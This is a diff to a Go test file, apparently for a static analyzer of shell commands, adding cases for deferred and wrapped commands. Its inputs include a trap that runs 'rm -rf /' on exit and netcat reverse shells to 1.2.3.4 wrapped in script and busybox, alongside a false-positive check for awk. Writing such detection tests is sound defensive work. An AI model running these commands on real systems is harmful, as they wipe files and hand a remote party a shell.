@@ -939,3 +939,22 @@ func TestFilesWrittenThenRun(t *testing.T) {
 		t.Errorf("overwritten download: %s", dump(f))
 	}
 }
+
+func TestDeferredAndWrappedShells(t *testing.T) {
+	f := run(t, `trap 'rm -rf /' EXIT`)
+	if fa := findFile(f, "delete", "/"); fa == nil || fa.Pos.Via != "trap" {
+		t.Errorf("trap: %s", dump(f))
+	}
+	f = run(t, `script -qc 'nc -e /bin/sh 1.2.3.4 1' /dev/null`)
+	if n := findNet(f, "nc"); n == nil || !n.ExecShell || len(f.Files) != 0 {
+		t.Errorf("script -c: %s", dump(f))
+	}
+	f = run(t, `busybox nc -e /bin/sh 1.2.3.4 9`)
+	if c := findCmd(f, "nc"); c == nil || !hasReach(c, "wrapper") || findNet(f, "nc") == nil {
+		t.Errorf("busybox: %s", dump(f))
+	}
+	f = run(t, `awk '{print "system" "x"}' f`)
+	if len(f.DynamicExec) != 0 {
+		t.Errorf("awk printing the word system: %s", dump(f))
+	}
+}
